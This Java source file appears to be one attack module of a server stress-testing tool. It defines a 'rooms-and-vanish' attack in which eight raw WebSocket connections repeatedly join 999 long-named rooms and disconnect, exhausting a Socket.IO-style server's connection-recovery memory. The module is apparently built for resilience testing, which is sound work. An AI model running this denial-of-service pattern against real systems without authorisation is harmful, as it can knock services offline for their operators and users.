package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** For connection state recovery, the server remembers the rooms of a client that has lost its connection. */
final class RoomsAndVanish implements Attack {
    private static final int CONNECTIONS = 8;
    private static final int ROOMS = 999;
    private static final String PADDING = "r".repeat(86);

    private final AtomicInteger clients = new AtomicInteger();

    @Override
    public String name() {
        return "rooms-and-vanish";
    }

    @Override
    public String summary() {
        return "8 connections join 999 rooms with names of 100 characters and are lost, again and again";
    }

    @Override
    public boolean needsRecovery() {
        return true;
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CONNECTIONS, () -> joinAndVanish(attacker));
    }

    private void joinAndVanish(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            client.connect();
            client.send("421[\"join\",[" + rooms(clients.incrementAndGet()) + "]]");
            client.await("431");
        }
    }

    private static String rooms(int client) {
        return IntStream.range(0, ROOMS)
                .mapToObj(room -> '"' + String.format("%08d-%04d-", client, room) + PADDING + '"')
                .collect(Collectors.joining(","));
    }
}
